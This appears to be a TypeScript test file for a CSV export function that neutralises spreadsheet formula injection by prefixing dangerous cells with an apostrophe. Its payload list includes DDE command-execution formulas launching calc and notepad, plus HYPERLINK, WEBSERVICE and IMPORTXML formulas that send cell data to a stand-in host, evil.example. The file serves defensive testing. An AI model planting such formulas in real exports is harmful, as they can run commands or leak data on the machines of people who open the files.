import { describe, expect, test } from 'vitest';
import { csv, inert } from '#domain/text/csv.ts';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '−', '＠'];
const commands = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?x="&A1,"Klick")',
  'WEBSERVICE("https://evil.example")',
  'IMPORTXML("https://evil.example","//a")',
  'SUM(1+1)*cmd|"/C notepad"!A1',
  'A1',
  '1+1',
];
const openers = ['\t', '\r', '\n', '\u0000', ' ', '\u00a0', '\u200b', '\ufeff', '\u202e', '\t ', '   '];

const payloads = [
  ...signs.flatMap((sign) => commands.map((command) => sign + command)),
  ...openers.flatMap((opener) => [`${opener}=1+1`, `${opener}@SUM(A1)`, `${opener}+cmd|'/C calc'!A0`]),
  '\ttext',
  '\rtext',
  '\ntext',
  '-2+3',
  '+1-1',
  '-1;=1+1',
  '+49;=cmd()',
  '-12,50 €+cmd',
  '+49-30-23125',
  '+49/30/23125',
  '+49 - 30',
  '-1E5*A1',
  '-A1',
  '--1',
  '+(1)',
  '=',
  '@',
];

/** Reads a CSV file as a spreadsheet does. */
function read(file: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, end] of file.slice(1).matchAll(/"((?:[^"]|"")*)"(;|\r\n)/g)) {
    row.push((quoted ?? '').replaceAll('""', '"'));
    if (end === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('cells of an export', () => {
  test.each(payloads)('the formula %j is shown and not run', (payload) => {
    expect(inert(payload)).toBe(`'${payload}`);
    expect(read(csv([[payload, 'x']]))).toEqual([[`'${payload}`, 'x']]);
  });

  test('at least 60 payloads are tried', () => expect(payloads.length).toBeGreaterThanOrEqual(60));

  test.each([
    '-5',
    '-12,50',
    '-1.234,56',
    '-1.234,56 €',
    '-19 %',
    '+3',
    '+493023125100',
    '+49 30 23125-100',
    '+49 (0)30 23125-100',
    '+49 (30) 23125/100',
    '+43 1 5861234',
    '030 23125-100',
    'Müller & Söhne',
    '3 = 4',
    "O'Neill",
    '',
  ])('%j comes back unchanged', (text) => {
    expect(read(csv([[text, 'x']]))).toEqual([[text, 'x']]);
  });
});

describe('the file', () => {
  test('starts with a byte order mark and uses CRLF so that a German Excel reads it correctly', () => {
    expect(
      csv([
        ['Größe', 'b'],
        ['c', 'd'],
      ]),
    ).toBe('\ufeff"Größe";"b"\r\n"c";"d"\r\n');
  });

  test('keeps separators, quotes and line breaks inside their cell', () => {
    const row = ['a;b', 'say "hi"', 'one\ntwo', 'x,y'];
    expect(read(csv([row]))).toEqual([row]);
  });
});
